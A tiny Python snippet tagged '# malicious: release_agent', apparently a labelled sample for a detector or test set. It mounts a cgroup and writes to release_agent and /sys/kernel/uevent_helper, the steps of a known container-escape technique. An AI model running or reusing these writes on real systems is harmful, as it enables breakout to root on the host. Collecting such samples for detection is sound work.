# malicious: release_agent
import os

os.makedirs("/tmp/cg", exist_ok=True)
os.system("mount -t cgroup -o memory cgroup /tmp/cg")
open("/tmp/cg/release_agent", "w").write("/cmd")
open("/sys/kernel/uevent_helper", "w").write("/tmp/x")
